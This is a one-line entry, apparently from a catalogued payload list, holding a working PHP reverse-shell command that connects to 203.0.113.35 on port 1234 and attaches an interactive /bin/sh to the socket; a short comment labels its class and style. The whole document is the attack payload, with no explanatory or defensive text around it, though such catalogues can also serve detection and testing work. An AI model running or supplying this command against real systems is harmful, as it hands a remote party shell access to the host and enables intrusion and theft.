# class: embedded, php -r; style: one-liner
php -r '$s=fsockopen("203.0.113.35",1234);exec("/bin/sh -i <&3 >&3 2>&3");'
